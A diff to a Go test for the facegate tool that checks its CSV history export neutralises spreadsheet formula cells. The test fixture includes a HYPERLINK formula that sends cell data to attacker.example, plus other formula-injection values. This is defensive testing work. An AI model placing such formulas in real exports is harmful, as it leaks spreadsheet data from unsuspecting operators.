@@ -9,12 +9,12 @@ import (
 	"github.com/facegate/facegate/faceauth"
 )
 
-// Red-team (outputs): `facegate history --format csv` writes the API's
+// `facegate history --format csv` writes the API's
 // text (reject comments, submission ids, submit types) as is, so a cell
 // that starts with '=', '+', '-' or '@' is a formula to the spreadsheet the
 // operator opens it in. The site's muster.csv already neutralises such
-// cells (kiosk csvSafe); the history export does not.
-func TestRTHistoryCSVNeutralisesFormulas(t *testing.T) {
+// cells (internal/csvcell); until 2026-12-07 the history export did not.
+func TestHistoryCSVNeutralisesFormulas(t *testing.T) {
 	recs := []faceauth.Record{{
 		AuthID: "a1", Status: "rejected", KYCSubmissionID: "-2+3",
 		SubmitType: "@SUM(1+1)", Comments: []string{`=HYPERLINK("http://attacker.example/?d="&A1,"details")`},
